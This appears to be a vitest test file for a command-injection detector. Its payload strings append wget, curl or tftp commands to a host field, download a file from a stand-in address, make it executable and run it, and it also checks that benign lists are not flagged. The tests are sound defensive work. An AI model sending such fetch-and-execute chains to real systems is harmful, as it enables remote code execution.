import { expect, test } from 'vitest';
import { commandInjection } from '../../../../src/attacks/signatures/command-injection.ts';
import { formBody, foundIn, jsonBody } from '../../found-in.ts';

const everywhere = (value: string) => [value, formBody({ host: value }), jsonBody({ host: value, page: 7 })];

test.each([
  '192.0.2.7\nwget http://192.0.2.9/x\nchmod 755 x\n./x',
  '192.0.2.7\r\ncurl -o /tmp/k http://192.0.2.9/k\r\nchmod +x /tmp/k\r\n/tmp/k',
  '192.0.2.7\n\ntftp -g -r z 192.0.2.9\n\nchmod 777 z\n\n./z',
])('lines of commands behind a machine by its number are found: %j', (value) => {
  for (const example of everywhere(value)) expect(foundIn(commandInjection, example)).not.toEqual([]);
});

test.each([
  '192.0.2.7\n192.0.2.8\n192.0.2.9\n192.0.2.10',
  '192.0.2.7\nhost of the shop\nline two\nline three',
  'Dear Ann,\nwget http://192.0.2.9/x\nchmod 755 x\nBob',
])('lists of machines and letters are none: %j', (value) => {
  for (const example of everywhere(value)) expect(foundIn(commandInjection, example)).toEqual([]);
});

test('what somebody notes of a machine is none', () => {
  const value = '192.0.2.7\nls\ncd shop\ngit pull';
  for (const name of ['note', 'description', 'comment'])
    expect(foundIn(commandInjection, jsonBody({ [name]: value, page: 7 })), name).toEqual([]);
});
